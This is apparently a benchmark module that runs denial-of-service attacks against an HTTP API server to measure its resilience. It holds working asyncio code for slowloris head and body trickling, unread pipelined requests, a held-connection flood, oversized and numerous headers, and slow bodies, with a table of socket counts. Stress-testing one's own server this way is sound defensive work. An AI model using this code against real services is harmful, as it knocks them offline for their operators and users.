"""The attacks of bench/attack.py, as an attacker would run them: raw sockets, no API key.

Each attack runs in its own process (``python bench/attack.py --attacker NAME``), so that its
loop does not share a GIL with the well-behaved client being timed. Every attack holds or
reopens its sockets until its time is up; a socket the server closes is opened again after a
short pause (``REOPEN``), as a patient attacker would -- a tight reconnect loop is a
connection-rate flood, a job for a firewall in front, not for the server. At the end it closes
everything and prints what it did as one JSON line.
"""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Awaitable, Callable, Coroutine
from dataclasses import asdict, dataclass
from typing import Any

#: Seconds before a socket the server closed is opened again.
REOPEN = 0.2


@dataclass
class Tally:
    """What an attack did."""

    connections: int = 0  # opened
    closed_by_server: int = 0
    bytes_sent: int = 0


@dataclass(frozen=True)
class Plan:
    """Where and how hard to attack."""

    host: str
    port: int
    seconds: float
    scale: float  # 1.0: the full attack; the quick run uses a tenth or so


Attack = Callable[[Plan, Tally, int], Coroutine[Any, Any, None]]


async def _open(plan: Plan, tally: Tally, source: str = "127.0.0.1") -> tuple[asyncio.StreamReader,
                                                                               asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection(plan.host, plan.port, local_addr=(source, 0), limit=2**20)
    tally.connections += 1
    return reader, writer


async def _send(writer: asyncio.StreamWriter, tally: Tally, data: bytes) -> None:
    writer.write(data)
    tally.bytes_sent += len(data)
    await writer.drain()


async def _until_closed(reader: asyncio.StreamReader) -> None:
    while await reader.read(65536):
        pass


async def _forever(plan: Plan, tally: Tally, one: Callable[[], Awaitable[None]]) -> None:
    """Run ``one`` connection's attack again and again (the server closed it) until the time is up."""
    while True:
        try:
            await one()
        except (OSError, asyncio.IncompleteReadError):
            pass
        tally.closed_by_server += 1
        await asyncio.sleep(REOPEN)


async def pipelined(plan: Plan, tally: Tally, index: int) -> None:
    """Pipelined ``GET /openapi.json`` (no key needed), never reading the answers."""
    burst = b"GET /openapi.json HTTP/1.1\r\nhost: x\r\n\r\n" * 1000

    async def one() -> None:
        _, writer = await _open(plan, tally)
        try:
            while True:
                await _send(writer, tally, burst)
        finally:
            writer.close()

    await _forever(plan, tally, one)


async def slowloris_head(plan: Plan, tally: Tally, index: int) -> None:
    """A request line, then a header byte a second: never a whole head."""
    async def one() -> None:
        reader, writer = await _open(plan, tally)
        try:
            await _send(writer, tally, b"GET /v1/models HTTP/1.1\r\nhost: x\r\nx-slow: ")
            while not reader.at_eof():
                await asyncio.sleep(1.0)
                await _send(writer, tally, b"a")
        finally:
            writer.close()

    await _forever(plan, tally, one)


async def slowloris_body(plan: Plan, tally: Tally, index: int) -> None:
    """A head announcing a body, then a byte of it a second."""
    async def one() -> None:
        reader, writer = await _open(plan, tally)
        try:
            await _send(writer, tally, b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\n"
                                      b"content-type: application/json\r\ncontent-length: 1000\r\n\r\n")
            while not reader.at_eof():
                await asyncio.sleep(1.0)
                await _send(writer, tally, b"{")
        finally:
            writer.close()

    await _forever(plan, tally, one)


async def slow_bodies(plan: Plan, tally: Tally, index: int) -> None:
    """4 MiB less a byte of a 4 MiB body, then silence."""
    size = 4 * 2**20

    async def one() -> None:
        reader, writer = await _open(plan, tally)
        try:
            await _send(writer, tally, b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\n"
                                      b"content-length: %d\r\n\r\n" % size)
            for offset in range(0, size - 1, 65536):
                await _send(writer, tally, b" " * min(65536, size - 1 - offset))
            await _until_closed(reader)
        finally:
            writer.close()

    await _forever(plan, tally, one)


async def flood(plan: Plan, tally: Tally, index: int) -> None:
    """One byte of a request, then hold the socket; from one of ten loopback addresses."""
    source = f"127.0.1.{index % 10 + 1}"

    async def one() -> None:
        reader, writer = await _open(plan, tally, source)
        try:
            await _send(writer, tally, b"G")
            await _until_closed(reader)
        finally:
            writer.close()

    await _forever(plan, tally, one)


async def huge_headers(plan: Plan, tally: Tally, index: int) -> None:
    """A 40 MB header value, sent as fast as the server takes it."""
    chunk = b"a" * 65536

    async def one() -> None:
        _, writer = await _open(plan, tally)
        try:
            await _send(writer, tally, b"GET /health HTTP/1.1\r\nhost: x\r\nx-big: ")
            for _ in range(40 * 16):
                await _send(writer, tally, chunk)
        finally:
            writer.close()

    await _forever(plan, tally, one)


async def many_headers(plan: Plan, tally: Tally, index: int) -> None:
    """6,000 small header fields, again and again."""
    head = b"GET /health HTTP/1.1\r\nhost: x\r\n" + b"".join(b"h%d: 1\r\n" % i for i in range(6000)) + b"\r\n"

    async def one() -> None:
        reader, writer = await _open(plan, tally)
        try:
            await _send(writer, tally, head)
            await _until_closed(reader)
        finally:
            writer.close()

    await _forever(plan, tally, one)


#: name -> (attack, sockets at scale 1.0, what it is)
ATTACKS: dict[str, tuple[Attack, int, str]] = {
    "pipelined": (pipelined, 20, "20 sockets pipelining GET /openapi.json, never reading"),
    "slowloris-head": (slowloris_head, 200, "200 sockets trickling a head, a byte a second"),
    "slowloris-body": (slowloris_body, 200, "200 heads announcing a body sent a byte a second"),
    "slow-bodies": (slow_bodies, 30, "30 sockets x 4 MiB-1 of a 4 MiB body, then silence"),
    "flood": (flood, 1100, "1,100 sockets from 10 addresses, one byte each, held"),
    "huge-headers": (huge_headers, 4, "4 sockets sending 40 MB header values"),
    "many-headers": (many_headers, 4, "4 sockets sending 6,000 header fields, again and again"),
}


async def run(name: str, plan: Plan) -> Tally:
    """Run attack ``name`` for ``plan.seconds``; close everything; what it did."""
    attack, sockets, _ = ATTACKS[name]
    tally = Tally()
    count = max(1, round(sockets * plan.scale))
    tasks = [asyncio.create_task(attack(plan, tally, i)) for i in range(count)]
    try:
        await asyncio.sleep(plan.seconds)
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
    return tally


def main(name: str, host: str, port: int, seconds: float, scale: float) -> None:
    """The attacker process: run, then print the tally as JSON."""
    import uvloop

    started = time.monotonic()
    tally = uvloop.run(run(name, Plan(host, port, seconds, scale)))
    print(json.dumps({**asdict(tally), "seconds": time.monotonic() - started}), flush=True)
